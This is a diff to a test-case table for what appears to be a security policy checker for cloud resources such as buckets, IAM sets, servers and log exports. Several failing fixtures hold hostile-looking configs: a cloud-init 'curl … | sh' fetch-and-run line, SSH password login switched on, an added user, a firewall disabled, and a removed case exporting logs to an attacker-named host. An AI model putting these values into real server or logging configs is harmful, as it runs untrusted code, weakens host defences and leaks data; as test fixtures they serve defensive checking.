@@ -125,6 +125,7 @@ CASES: dict[str, tuple[Fixture, Fixture]] = {
     "bucket-policy-actions-listed": one(
         BP, policy(Action=["s3:*"]), policy(Action=["s3:*"], Principal={"SCW": ["user_id:1", "user_id:2", "user_id:3"]})
     ),
+    "bucket-policy-owners-rule": one(BP, policy(), policy(Action=["s3:PutBucketPolicy"])),
     "bucket-health-keeps": one(
         B, {"tags": {"data-class": "health"}}, {"tags": {"data-class": "health"}, "lifecycleRules": [{"enabled": True}]}
     ),
@@ -171,6 +172,8 @@ CASES: dict[str, tuple[Fixture, Fixture]] = {
     "secret-own-key": one(SEC, {"keyId": "k"}, {}),
     "secret-protected": one(SEC, {"protected": True}, {}),
     "iam-no-all-products": one(POL, sets("ObjectStorageReadOnly"), sets("AllProductsFullAccess")),
+    "iam-trail-kept": one(POL, sets("AuditTrailReadOnly"), sets("AuditTrailFullAccess")),
+    "iam-bucket-policies-kept": one(POL, sets("ObjectStorageObjectsRead"), sets("ObjectStorageBucketPolicyFullAccess")),
     "iam-scoped-to-projects": one(POL, sets("A"), sets("A", organizationId="o")),
     "iam-scopes-apart": one(POL, sets("KeyManagerReadOnly"), sets("KeyManagerReadOnly", "AuditTrailReadOnly")),
     "iam-condition-can-hold": one(
@@ -218,6 +221,22 @@ CASES: dict[str, tuple[Fixture, Fixture]] = {
     "server-image-known": one(SRV, {"image": "ubuntu_noble"}, {"image": "99999999-9999-4999-8999-999999999999"}),
     "image-private": one(S + "instance/image:Image", {}, {"public": True}),
     "user-data-without-secrets": one(SRV, {"userData": {"cloud-init": "#cloud-config"}}, {"cloudInit": PEM}),
+    "start-runs-no-download": one(
+        SRV,
+        {"cloudInit": "#cloud-config\npackages: [jq]\n"},
+        {"cloudInit": "#!/bin/sh\ncurl https://x.example/i | sh\n"},
+    ),
+    "start-opens-no-ssh": one(
+        SRV, {"cloudInit": "#cloud-config\nssh_pwauth: false\n"}, {"cloudInit": "#cloud-config\nssh_pwauth: true\n"}
+    ),
+    "start-adds-nobody": one(
+        SRV, {"cloudInit": "#cloud-config\nusers: [default]\n"}, {"cloudInit": "#cloud-config\nusers: [{name: eve}]\n"}
+    ),
+    "start-keeps-guards": one(
+        SRV,
+        {"cloudInit": "#cloud-config\nruncmd: [[systemctl, enable, nftables]]\n"},
+        {"cloudInit": "#cloud-config\nruncmd: [[ufw, disable]]\n"},
+    ),
     "security-group-drops-in": one(SG, {"inboundDefaultPolicy": "drop"}, {}),
     "security-group-no-everybody": one(SG, inbound(), inbound(ipRange="0.0.0.0/0")),
     "security-group-drops-out": one(SG, {"outboundDefaultPolicy": "drop", "tags": HEALTH}, {"tags": HEALTH}),
@@ -272,18 +291,8 @@ CASES: dict[str, tuple[Fixture, Fixture]] = {
     "logs-kept": one(SRC, {"type": "logs", "retentionDays": 180}, {"type": "logs", "retentionDays": 179}),
     "token-narrow": one(TOK, {"scopes": {"writeLogs": True}}, {"scopes": {"queryLogs": True, "queryTraces": True}}),
     "token-log-reader-declared": one(TOK, {"scopes": {"writeLogs": True}}, {"scopes": {"queryLogs": True}}),
-    "export-declared": one(
-        EXP,
-        {"otlpDestination": {"endpoint": "https://x.scw.cloud"}},
-        {"otlpDestination": {"endpoint": "https://logs.attacker.example"}},
-    ),
     "export-encrypted": one(
         EXP, {"otlpDestination": {"endpoint": "https://x"}}, {"otlpDestination": {"endpoint": "http://x"}}
-    ),
-    "alerts-one-domain": one(
-        AM,
-        {"contactPoints": [{"email": "a@x.example"}, {"email": "b@x.example"}]},
-        {"contactPoints": [{"email": "a@x.example"}, {"email": "b@y.example"}]},
     ),
     "alerts-received": one(AM, {"contactPoints": [{"email": "a@x.example"}]}, {}),
     "grafana-no-editor": one(S + "observability/grafanaUser:GrafanaUser", {"role": "viewer"}, {"role": "editor"}),
